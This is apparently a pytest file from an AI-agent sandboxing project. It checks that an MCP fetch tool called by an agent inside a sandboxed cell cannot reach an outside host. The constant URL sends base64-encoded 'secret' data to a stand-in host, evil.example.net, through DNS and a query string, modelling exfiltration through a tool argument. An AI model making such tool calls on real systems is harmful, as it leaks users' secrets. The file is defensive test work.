"""Attacks through MCP tools, from inside a real cell: a server goes nowhere that its cell does not."""

from __future__ import annotations

import json
from pathlib import Path

import docker

from sandbox.images import MCP_SERVERS, build_all
from tests.lab import Lab
from tests.outside_lab import OutsideLab

URL = "http://c2vjcmv0-by-tool.evil.example.net/steal?data=c2VjcmV0"
FETCH = ["python3", "-m", "mcp_server_fetch", "--ignore-robots-txt"]
AGENT = f"""
import asyncio, json, os
from mcp import Client

async def main():
    async with Client("http://127.0.0.1:5000/mcp/web") as client:
        answer = await client.call_tool("fetch", {{"url": {URL!r}}})
        return [answer.is_error, " ".join(part.text for part in answer.content)]

os.makedirs("/workspace/artifacts", exist_ok=True)
json.dump(asyncio.run(main()), open("/workspace/artifacts/said.json", "w"))
"""
CONTROL = f"""
import asyncio
from mcp import Client, StdioServerParameters

async def main():
    env = {{"PYTHONPATH": "/opt/site"}}
    async with Client(StdioServerParameters(command={FETCH[0]!r}, args={FETCH[1:]!r}, env=env)) as client:
        await client.call_tool("fetch", {{"url": {URL!r}}})

asyncio.run(main())
"""


def test_row_4_data_in_a_url_argument_of_a_tool_leaves_no_trace_outside(tmp_path: Path) -> None:
    lab = Lab(tmp_path)
    build_all(lab.engine, print, (MCP_SERVERS,))
    with OutsideLab({"data.example.com": ["origin"]}) as outside:
        lab.env |= outside.env
        workflow = lab.workflow(
            AGENT,
            tools={"web": ["fetch"]},
            egress=[{"host": "data.example.com", "addresses": [outside.subnet]}],  # so that the run has a way out
            top={"tools": {"web": {"image": MCP_SERVERS.name, "run": FETCH}}},
        )
        audited = lab.cli("mcp", "audit", str(workflow), "--approve", "web.fetch")
        assert audited.returncode == 0, audited.stderr
        result = lab.run(workflow)
        assert result.exit_code == 0, result.stderr
        failed, said = json.loads(result.artifact("agent/said.json"))
        assert failed, said
        called = [e for e in result.of("tool.called") if e.attrs.get("gen_ai.tool.name") == "fetch"]
        assert [event.verdict.value for event in called if event.verdict] == ["allow"]  # the call itself is no secret
        assert outside.queries == []
        # control: the same server, on the outside's own network, asks for the name
        docker.from_env().containers.run(
            MCP_SERVERS.name,
            ["python3", "-c", CONTROL],
            network=outside.network,
            dns=[outside.resolver],
            labels={"casemate-test": "1"},
            remove=True,
        )
        assert any("c2vjcmv0-by-tool.evil.example.net" in query for query in outside.queries)
